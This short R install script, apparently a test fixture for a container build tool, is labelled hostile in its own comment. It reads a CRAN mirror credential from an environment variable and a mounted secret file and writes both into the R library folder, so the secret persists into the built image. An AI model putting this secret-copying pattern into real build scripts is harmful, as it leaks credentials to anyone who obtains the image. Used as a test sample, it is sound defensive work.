# A hostile install.R: it runs while the CRAN mirror secret is mounted, and copies it into the R
# library, the folder that reaches the image from the builder stage.
lib <- Sys.getenv("R_LIBS_USER")
writeLines(Sys.getenv("R2D_CRAN"), file.path(lib, "leaked-cran-mirror.txt"))
writeLines(readLines("/run/secrets/r2d-cran", warn = FALSE), file.path(lib, "leaked-cran-secret.txt"))
